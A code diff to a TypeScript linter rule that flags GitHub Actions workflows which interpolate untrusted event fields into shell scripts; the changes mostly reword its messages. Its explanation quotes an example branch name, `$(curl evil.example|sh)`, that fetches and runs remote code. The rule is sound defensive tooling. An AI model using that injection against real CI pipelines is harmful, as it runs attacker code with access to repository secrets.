@@ -2,8 +2,8 @@ import { lines } from '../lines.ts'
 import type { Rule } from '../rule.ts'
 
 /**
- * What outsiders write, in letters that a shell understands; the names of repositories and the tags of releases are not among
- * it. https://docs.github.com/en/actions/reference/security/secure-use
+ * Values that outsiders control and that can contain shell syntax. Names of repositories and tags of releases cannot.
+ * https://docs.github.com/en/actions/reference/security/secure-use
  */
 const untrusted =
   /\$\{\{[^}]*\b(?:github\.head_ref|github\.event\.(?:issue|pull_request|comment|review|discussion|pages|commits|head_commit|release|workflow_run)\b[\w.[\]*]*(?:title|body|message|email|head\.ref|head\.label|head_branch|page_name|(?<=author\.|committer\.|release\.)name))\b[^}]*\}\}/g
@@ -11,9 +11,9 @@ const untrusted =
 export const expressionInScript: Rule = {
   code: 'EXPRESSION_IN_SCRIPT',
   severity: 'error',
-  title: 'An expression puts text that others write into a shell script.',
-  why: 'GitHub puts the text in before the shell reads it. A branch that is named `$(curl evil.example|sh)` runs that command in the job, with its secrets.',
-  fix: 'Hand it over in a variable: `env: { REF: ${{ github.head_ref }} }`, and write `"$REF"` in the script.',
+  title: 'An expression inserts text from outsiders into a shell script.',
+  why: 'GitHub inserts the text before the shell reads the script. A branch named `$(curl evil.example|sh)` runs that command in the job, with its secrets.',
+  hint: 'Pass the value in a variable: `env: { REF: ${{ github.head_ref }} }`, and use `"$REF"` in the script.',
   bad: workflowWith('      - run: ssh deploy@test.example.com "./deploy.sh ${{ github.head_ref }}"'),
   good: workflowWith(
     '      - run: ssh deploy@test.example.com ./deploy.sh "$REF"',
@@ -28,7 +28,7 @@ export const expressionInScript: Rule = {
         const at = { file, start: start + match.index, end: start + match.index + match[0].length }
         yield {
           at,
-          message: `\`${match[0].replace(/^\$\{\{\s*|\s*\}\}$/g, '')}\` becomes part of the script, whatever it holds.`,
+          message: `\`${match[0].replace(/^\$\{\{\s*|\s*\}\}$/g, '')}\` becomes part of the script, whatever it contains.`,
         }
       }
     }
